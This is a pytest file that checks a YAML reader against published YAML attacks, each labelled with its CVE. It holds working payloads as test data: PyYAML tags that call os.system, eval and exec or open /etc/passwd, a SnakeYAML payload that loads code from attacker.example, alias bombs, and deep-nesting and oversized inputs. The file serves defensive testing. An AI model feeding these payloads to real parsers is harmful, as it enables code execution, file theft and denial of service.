"""Published attacks by YAML, against the one reader of it: a diagnostic with its place, and nothing made or grown."""

from __future__ import annotations

import pytest

from ivr_author.core.source import Source
from ivr_author.core.tree import Mapping, Node, Scalar, Sequence
from ivr_author.core.yaml_source import read_yaml
from tests.attack.watch import check, watched
from tests.tally import tally

# Where each was published.
CVE_2017 = "CVE-2017-18342 (PyYAML load)"
CVE_2019 = "CVE-2019-20477 (PyYAML FullLoader)"
CVE_2020_1747 = "CVE-2020-1747, GHSA-6757-jp84-gxfx (PyYAML FullLoader)"
CVE_2020_14343 = "CVE-2020-14343, GHSA-8q59-q68h-6hv4 (PyYAML FullLoader)"
ISSUE_321 = "yaml/pyyaml#321: FullLoader is not much safer than UnsafeLoader"
ISSUE_895 = "yaml/pyyaml#895: the process ends in deep nesting"
SNAKE = "CVE-2022-1471 (SnakeYAML constructors)"
RUBY = "CVE-2013-0156 (Rails, YAML tags)"
LAUGHS = "CVE-2019-11253 (Kubernetes, billion laughs in YAML)"
GO = "CVE-2022-28948 and CVE-2021-4235 (go-yaml, aliases)"
STACK = "CVE-2022-38752, CVE-2022-25857 (SnakeYAML, depth)"
LIBYAML = "CVE-2013-6393, CVE-2014-2525, CVE-2014-9130 (libyaml)"
DIGITS = "CVE-2020-10735 (Python, digits of a number)"
MERGE = "CVE-2023-2251 and its kin (merge keys)"
NORWAY = "the Norway problem; YAML 1.1 booleans and sexagesimal numbers"
BIDI = "CVE-2021-42574 (Trojan Source)"

BOMB = "\n".join(["a0: &a0 [x, x]", *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10))])

# The rules that tell of it; where there is none, what is read is plain and small.
ATTACKS: dict[str, tuple[str, str, str]] = {
    "os.system": (CVE_2017, "a: !!python/object/apply:os.system ['id']", "yaml-tag"),
    "subprocess": (CVE_2019, "!!python/object/apply:subprocess.Popen [['id']]", "yaml-tag"),
    "eval": (CVE_2017, "a: !!python/object/apply:eval ['1']", "yaml-tag"),
    "module": (CVE_2017, "a: !!python/module:os", "yaml-tag"),
    "name": (CVE_2017, "a: !!python/name:os.system", "yaml-tag"),
    "new": (
        CVE_2020_14343,
        "!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , ['1']]]",
        "yaml-tag",
    ),
    "extend": (
        CVE_2020_1747,
        "!!python/object/new:type\nargs: [z, !!python/tuple [], {extend: !!python/name:exec }]",
        "yaml-tag",
    ),
    "state": (CVE_2020_1747, "!!python/object/new:str\nstate: !!python/tuple ['x', {}]", "yaml-tag"),
    "open": (
        ISSUE_321,
        "!!python/object/apply:list [!!python/object/apply:io.FileIO ['/etc/passwd', 'r']]",
        "yaml-tag",
    ),
    "write": (ISSUE_321, "!!python/object/apply:io.FileIO ['owned', 'w']", "yaml-tag"),
    "verbatim tag": (CVE_2017, "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']", "yaml-tag"),
    "declared tag": (CVE_2017, "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ['id']", "yaml-tag"),
    "tag on a key": (CVE_2017, "!!python/name:os.system : a", "yaml-tag"),
    "script engine": (
        SNAKE,
        "!!javax.script.ScriptEngineManager [!!java.net.URL ['http://attacker.example/']]",
        "yaml-tag",
    ),
    "ruby": (RUBY, "--- !ruby/object:Gem::Installer\ni: x", "yaml-tag"),
    "binary": (RUBY, "a: !!binary aWQ=", "yaml-tag"),
    "set": (RUBY, "a: !!set {b, c}", "yaml-tag"),
    "laughs": (LAUGHS, BOMB, "anchor-or-alias"),
    "laughs on one line": (LAUGHS, "{" + BOMB.replace("\n", ", ") + "}", "anchor-or-alias"),
    "many aliases": (GO, "a: &a x\nb: [" + "*a, " * 50_000 + "]", "anchor-or-alias"),
    "an alias in itself": (GO, "&a [*a]", "anchor-or-alias"),
    "an alias as a key": (GO, "? &a b\n: *a", "anchor-or-alias"),
    "merge": (MERGE, "a: {<<: {b: 1}}", "merge-key"),
    "merge a list": (MERGE, "<<: [{a: 1}, {b: 2}]", "merge-key"),
    "__proto__": (MERGE, "__proto__: {admin: true}\nconstructor: {prototype: {x: 1}}", ""),
    "deep lists": (ISSUE_895, "[" * 200_000, "too-deep"),
    "deep blocks": (ISSUE_895, "- " * 200_000, "too-deep"),
    "deep keys": (ISSUE_895, "? " * 200_000, "too-deep"),
    "deep maps": (STACK, "{a: " * 100_000, "too-deep"),
    "deep and closed": (STACK, "[" * 5_000 + "]" * 5_000, "too-deep"),
    "a key that is a list": (STACK, "[[a], [b]]: c", "key-not-text"),
    "a long tag": (LIBYAML, "a: !<" + "x" * 100_000 + "> b", "yaml-tag"),
    "an encoded tag": (LIBYAML, "a: !e!%41%42%43%44%45%46 b", ""),
    "a long directive": (LIBYAML, "%" + "A" * 100_000 + "\n---\na: 1", ""),
    "a version of four billion": (LIBYAML, "%YAML 1.4294967297\n---\na: 1", ""),
    "a long anchor": (LIBYAML, "a: &" + "x" * 100_000 + " b", "anchor-or-alias"),
    "a long number": (DIGITS, "a: " + "9" * 200_000, ""),
    "a long hexadecimal number": (DIGITS, "a: 0x" + "f" * 200_000, ""),
    "a large exponent": (DIGITS, "a: 1e999999999", ""),
    "a long key": (STACK, "a" * 100_000 + ": 1", ""),
    "many keys": (STACK, "{" + ", ".join(f"k{n}: {n}" for n in range(10_000)) + "}", ""),
    "many doubled keys": (STACK, "a: 1\n" * 40_000, "duplicate-key"),
    "many documents": (STACK, "--- a\n" * 40_000, "several-documents"),
    "many comments": (STACK, "#\n" * 300_000 + "a: 1", ""),
    "many quotes": (STACK, "a: " + '"' * 100_000, ""),
    "indented further and further": (STACK, "\n".join(" " * n + "a:" for n in range(1_000)), "too-deep"),
    "a long folded text": (STACK, "a: >\n" + "  b\n\n" * 60_000, ""),
    "norway": (NORWAY, "no: yes\noff: on\n1:30: 12:30:45\n", ""),
    "control characters": (LIBYAML, "a: \x00\x07\x1b[31m", "control-character"),
    "a lone surrogate": (LIBYAML, "a: \ud800", ""),
    "right to left": (BIDI, "a: \u202e # not\u202c", ""),
    "too large": (STACK, "a: " + "x" * 2_000_000, "file-too-large"),
}


def plain(node: Node) -> bool:
    """Whether there is nothing in it but texts, numbers, yes and no."""
    if isinstance(node, Scalar):
        return type(node.data) in (str, int, float, bool, type(None))
    if isinstance(node, Sequence):
        return all(map(plain, node.items))
    assert isinstance(node, Mapping)
    return all(isinstance(key.text, str) and plain(value) for key, value in node)


@pytest.fixture(autouse=True, scope="module")
def warm() -> None:
    """What is made once, on the first use, is nobody's attack."""
    for text in ("a: &b [c]", "a: 'b", "a: \x00"):
        assert read_yaml(Source("flows/a.yaml", text))[1]


@pytest.mark.parametrize("name", ATTACKS)
def test_it_is_told_with_its_place_or_read_as_text(name: str) -> None:
    source, text, rule = ATTACKS[name]
    with watched() as seen:
        tree, faults = read_yaml(Source("flows/a.yaml", text))
    if rule:
        assert rule in {fault.rule for fault in faults}, source
    assert tree is not None or faults
    assert tree is None or plain(tree)
    for fault in faults:
        assert fault.span is not None
        assert 1 <= fault.span.line <= text.count("\n") + 2
        assert len(fault.message) < 1_000
    check(seen, most_bytes=160_000_000)


def test_enough_are_tried() -> None:
    assert len(ATTACKS) >= 40
    told = sum(bool(rule) for _, _, rule in ATTACKS.values())
    tally("attacks by YAML", len(ATTACKS), told=told, escaped=0)
